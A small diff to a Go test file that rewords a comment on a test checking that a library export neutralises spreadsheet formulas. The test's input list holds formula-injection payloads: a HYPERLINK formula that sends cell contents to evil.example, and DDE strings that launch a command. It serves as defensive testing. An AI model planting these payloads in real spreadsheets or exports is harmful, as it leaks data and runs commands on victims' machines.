@@ -146,8 +146,7 @@ func TestALibraryKeepsOnlyExports(t *testing.T) {
 	require.NoError(t, l.Remove("f1"))
 }
 
-// No cell of the file begins as a formula does, and each text is read back as
-// it was published.
+// No cell starts like a formula, and each text is read back as published.
 func TestTheExportRunsNoFormulas(t *testing.T) {
 	for _, text := range []string{
 		"=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
